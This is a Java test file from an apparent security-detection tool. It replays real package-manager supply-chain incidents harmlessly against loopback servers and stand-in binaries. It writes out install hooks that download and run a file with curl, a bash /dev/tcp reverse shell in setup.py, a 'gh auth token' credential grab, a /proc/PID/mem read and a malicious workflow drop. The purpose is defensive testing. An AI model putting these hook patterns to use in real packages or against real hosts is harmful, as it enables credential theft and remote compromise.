package dev.hookline.linux.scenario;

import static dev.hookline.linux.scenario.Rules.*;
import static dev.hookline.linux.scenario.SeedScenarios.requireHit;
import static dev.hookline.scenario.Expectation.caught;
import static dev.hookline.scenario.Expectation.missedByDesign;

import dev.hookline.scenario.Scenario;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

/**
 * The behaviours of real incidents (issue 7), reproduced harmlessly: every download comes from a loopback server
 * the scenario owns, every "tool" is a copy of /usr/bin/true or echo under the tool's name.
 */
final class IncidentScenarios {
    private IncidentScenarios() {
    }

    static List<Scenario> all() {
        return List.of(uaParserPreinstall(), uaParserPreinstallDelayed(), shaiHuludPostinstall(), nxGhAuthToken(), setupPyReverseShell(),
                procMemRead(), npmBeacon(), pipNonDefaultIndex());
    }

    /** ua-parser-js (2021): preinstall downloads "jsextension", makes it executable and runs it. */
    static Scenario uaParserPreinstall() {
        return LinuxScenario.attack("ua-parser-js-preinstall", "incident: ua-parser-js (2021)",
                "npm preinstall that downloads jsextension with curl from a loopback server, chmod +x and runs it "
                        + "(the download is a copy of /usr/bin/true)",
                List.of("npm", "node", "curl", "chmod", "true"),
                List.of(caught(SEED_T1195, HOOK_CHILD), caught(PREINSTALL_MINER, "InstallHookDownloadAndRun"),
                        caught(PREINSTALL_MINER, "CoinMinerStarted"), caught(PM_NETWORK_TOOL, null),
                        caught(DOWNLOADED_EXEC, "DownloadedFileExecuted")),
                ws -> {
                    LoopbackHttp http = ws.closeLater(new LoopbackHttp());
                    http.serve("/download/jsextension", "application/octet-stream",
                            Files.readAllBytes(requireProgram("true")));
                    Path ran = ws.dir.resolve("jsextension-ran");
                    Path pkg = Npm.packageDir(ws.dir.resolve("pkg"), "hookline-scn-ua-parser", Map.of("preinstall",
                            "curl " + http.url("/download/jsextension") + " -s -o jsextension && chmod +x jsextension"
                                    + " && ./jsextension && touch " + ran));
                    Npm.installLocal(ws, pkg);
                    requireHit(http, "/download/jsextension", "the preinstall download");
                    requireFile(ran, "the downloaded jsextension did not run");
                });
    }

    /**
     * The same download and run with a second's pause before the run: the write row then reaches the rules by the
     * file collector's own path, where the immediate form depends on the exec publishing it first (WriteBeforeExec).
     */
    static Scenario uaParserPreinstallDelayed() {
        return LinuxScenario.attack("ua-parser-js-preinstall-delayed", "incident: ua-parser-js (2021), variant",
                "as ua-parser-js-preinstall, but the hook waits 1 s between the download and the run",
                List.of("npm", "node", "curl", "chmod", "sleep", "true"),
                List.of(caught(DOWNLOADED_EXEC, "DownloadedFileExecuted"),
                        caught(PREINSTALL_MINER, "InstallHookDownloadAndRun")),
                ws -> {
                    LoopbackHttp http = ws.closeLater(new LoopbackHttp());
                    http.serve("/download/jsextension", "application/octet-stream",
                            Files.readAllBytes(requireProgram("true")));
                    Path ran = ws.dir.resolve("jsextension-ran");
                    Path pkg = Npm.packageDir(ws.dir.resolve("pkg"), "hookline-scn-ua-parser-delayed", Map.of(
                            "preinstall", "curl " + http.url("/download/jsextension") + " -s -o jsextension && chmod +x"
                                    + " jsextension && sleep 1 && ./jsextension && touch " + ran));
                    Npm.installLocal(ws, pkg);
                    requireFile(ran, "the downloaded jsextension did not run");
                });
    }

    /** Shai-Hulud (2025): postinstall node bundle.js writes a workflow into the repository and runs trufflehog. */
    static Scenario shaiHuludPostinstall() {
        return LinuxScenario.attack("shai-hulud-postinstall", "incident: Shai-Hulud (2025)",
                "npm postinstall running node bundle.js, which writes .github/workflows/shai-hulud-workflow.yml in a "
                        + "temp repository and runs a binary named trufflehog (a copy of /usr/bin/true)",
                List.of("npm", "node", "true"),
                List.of(caught(SEED_T1195, PIPELINE_FILE), caught(PM_WRITES_WORKFLOW, null),
                        caught(PM_SECRET_HARVEST, null), caught(SHAI_HULUD, "ShaiHuludWorkflowFile")),
                ws -> {
                    ws.fakeTool("trufflehog", "true");
                    Path repo = Files.createDirectories(ws.dir.resolve("repo"));
                    Path workflow = repo.resolve(".github/workflows/shai-hulud-workflow.yml");
                    Path pkg = ws.dir.resolve("pkg");
                    ws.write("pkg/bundle.js", String.join("\n",
                            "const fs = require('fs'), path = require('path'), cp = require('child_process');",
                            "const wf = " + js(workflow.toString()) + ";",
                            "fs.mkdirSync(path.dirname(wf), {recursive: true});",
                            "fs.writeFileSync(wf, 'on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n"
                                    + "    steps:\\n      - run: echo hookline scenario\\n');",
                            "cp.execFileSync('trufflehog', ['filesystem', " + js(repo.toString()) + ", '--json'],"
                                    + " {stdio: 'inherit'});", ""));
                    Npm.packageDir(pkg, "hookline-scn-shai-hulud", Map.of("postinstall", "node bundle.js"));
                    Npm.installLocal(ws, pkg);
                    requireFile(workflow, "bundle.js did not write the workflow");
                });
    }

    /** nx (2025): postinstall telemetry.js calls gh auth token (a copy of /usr/bin/echo named gh). */
    static Scenario nxGhAuthToken() {
        return LinuxScenario.attack("nx-postinstall-gh-auth-token", "incident: nx s1ngularity (2025)",
                "npm postinstall running node telemetry.js, which calls gh auth token (gh is a copy of /usr/bin/echo)",
                List.of("npm", "node", "echo"),
                List.of(caught(PM_SECRET_HARVEST, null)),
                ws -> {
                    ws.fakeTool("gh", "echo");
                    Path out = ws.dir.resolve("gh-output");
                    ws.write("pkg/telemetry.js", String.join("\n",
                            "const cp = require('child_process'), fs = require('fs');",
                            "fs.writeFileSync(" + js(out.toString()) + ", cp.execFileSync('gh', ['auth', 'token']));",
                            ""));
                    Path pkg = Npm.packageDir(ws.dir.resolve("pkg"), "hookline-scn-nx",
                            Map.of("postinstall", "node telemetry.js"));
                    Npm.installLocal(ws, pkg);
                    requireFile(out, "telemetry.js did not run gh");
                });
    }

    /** The classic malicious setup.py: bash -i >& /dev/tcp/HOST/PORT 0>&1, here to a listener the runner owns. */
    static Scenario setupPyReverseShell() {
        return LinuxScenario.attack("setup-py-reverse-shell", "incident: malicious PyPI setup.py (recurring)",
                "pip install of a local setup.py that runs bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1 to a loopback "
                        + "listener the runner owns (it answers exit)",
                List.of("python3", "bash"),
                List.of(caught(SEED_T1195, HOOK_CHILD), caught(PM_REVERSE_SHELL, null)),
                ws -> {
                    ShellListener listener = ws.closeLater(new ShellListener());
                    Path pkg = Pip.setupPy(ws.dir.resolve("pkg"), "hookline-scn-revshell", String.join("\n",
                            "import subprocess",
                            "subprocess.run([\"bash\", \"-c\", \"bash -i >& /dev/tcp/127.0.0.1/" + listener.port()
                                    + " 0>&1\"], timeout=20)"));
                    Pip.installLocal(ws, pkg);
                    if (listener.accepted() < 1) {
                        throw new IOException("the reverse shell never connected to 127.0.0.1:" + listener.port());
                    }
                });
    }

    /**
     * A runner-memory read (the tj-actions / Shai-Hulud "memdump" step) under a package manager: setup.py runs
     * python3 -c code that starts sleep and reads its memory through /proc/PID/maps and /proc/PID/mem.
     */
    static Scenario procMemRead() {
        return LinuxScenario.attack("proc-mem-read-under-pip", "incident: tj-actions/changed-files (2025)",
                "pip install of a local setup.py that runs python3 -c reading a child sleep's /proc/PID/mem",
                List.of("python3", "sleep"),
                List.of(caught(RUNNER_MEMORY, "ProcMemAccess")),
                ws -> {
                    Path out = ws.dir.resolve("procmem-output");
                    String code = String.join(";",
                            "import subprocess",
                            "p=subprocess.Popen(['sleep','30'])",
                            "r=open('/proc/%d/maps'%p.pid).readline().split()[0].split('-')",
                            "f=open('/proc/%d/mem'%p.pid,'rb')",
                            "f.seek(int(r[0],16))",
                            "n=len(f.read(64))",
                            "p.kill()",
                            "p.wait()",
                            "print('read %d bytes'%n)");
                    Path pkg = Pip.setupPy(ws.dir.resolve("pkg"), "hookline-scn-procmem", String.join("\n",
                            "import subprocess, sys",
                            "r = subprocess.run([sys.executable, \"-c\", " + py(code) + "], capture_output=True, "
                                    + "text=True, timeout=20)",
                            "open(" + py(out.toString()) + ", \"w\").write(r.stdout + r.stderr)"));
                    Pip.installLocal(ws, pkg);
                    requireFile(out, "setup.py did not run the reader");
                    String said = Files.readString(out);
                    if (!said.contains("read 64 bytes")) {
                        throw new IOException("the memory read failed: " + said.strip());
                    }
                });
    }

    /** A postinstall that calls home to a host that is not a registry (loopback, so the seed arm cannot see it). */
    static Scenario npmBeacon() {
        return LinuxScenario.attack("npm-postinstall-beacon", "issue 7: package manager to a non-registry host",
                "npm postinstall running node beacon.js, which makes an HTTP request to a loopback port",
                List.of("npm", "node"),
                List.of(caught(PM_NONREGISTRY_PORT, null), missedByDesign(SEED_T1195, PM_EGRESS, LOOPBACK_BY_DESIGN)),
                ws -> {
                    LoopbackHttp http = ws.closeLater(new LoopbackHttp());
                    ws.write("pkg/beacon.js", String.join("\n",
                            "require('http').get(" + js(http.url("/beacon")) + ", r => { r.resume(); "
                                    + "r.on('end', () => process.exit(0)); })",
                            "  .on('error', e => { console.error(e); process.exit(1); });", ""));
                    Path pkg = Npm.packageDir(ws.dir.resolve("pkg"), "hookline-scn-beacon",
                            Map.of("postinstall", "node beacon.js"));
                    Npm.installLocal(ws, pkg);
                    requireHit(http, "/beacon", "beacon.js");
                });
    }

    /** pip install --index-url http://127.0.0.1:PORT/simple/ (an index the runner serves, one wheel). */
    static Scenario pipNonDefaultIndex() {
        return LinuxScenario.attack("pip-non-default-index", "issue 7: install from a non-default registry",
                "pip install --index-url http://127.0.0.1:PORT/simple/ of a wheel from a loopback index the runner "
                        + "serves",
                List.of("python3"),
                List.of(caught(PM_NONREGISTRY_PORT, null), missedByDesign(SEED_T1195, PM_EGRESS, LOOPBACK_BY_DESIGN),
                        caught(NONDEFAULT_REGISTRY, "InstallFromNonDefaultRegistry")),
                ws -> {
                    LoopbackHttp index = ws.closeLater(new LoopbackHttp());
                    String wheel = Pip.publishWheel(index, "hookline-scn-index-dep");
                    Pip.installFromIndex(ws, index.url("/simple/"), "hookline-scn-index-dep");
                    requireHit(index, wheel, "pip's download from the loopback index");
                });
    }

    static Path requireProgram(String name) throws IOException {
        Path p = Programs.which(name);
        if (p == null) {
            throw new IOException(name + " is not on PATH");
        }
        return p;
    }

    static void requireFile(Path p, String otherwise) throws IOException {
        if (!Files.exists(p)) {
            throw new IOException(otherwise + " (no " + p + ")");
        }
    }

    /** A JavaScript string literal. */
    static String js(String s) {
        return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'";
    }

    /** A Python string literal. */
    static String py(String s) {
        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }
}
